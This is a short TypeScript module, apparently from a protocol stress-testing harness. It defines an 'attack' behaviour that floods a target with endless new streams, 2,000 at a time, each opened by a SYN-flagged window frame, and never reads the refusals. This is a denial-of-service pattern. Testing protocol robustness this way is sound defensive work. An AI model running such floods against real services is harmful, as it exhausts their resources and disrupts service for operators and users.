/** Streams without end, whose refusals are never taken off the wire. */
import type { Behaviour } from '../attack/target.js'
import { FLAG, flooding, FRAME, header, streams } from '../attack/wire.js'

export const attack: Behaviour = async (target, signal) => flooding(target, signal, (n) => streams(n, 2_000, (stream) => header(FRAME.window, FLAG.syn, stream, 0)), { reads: false })
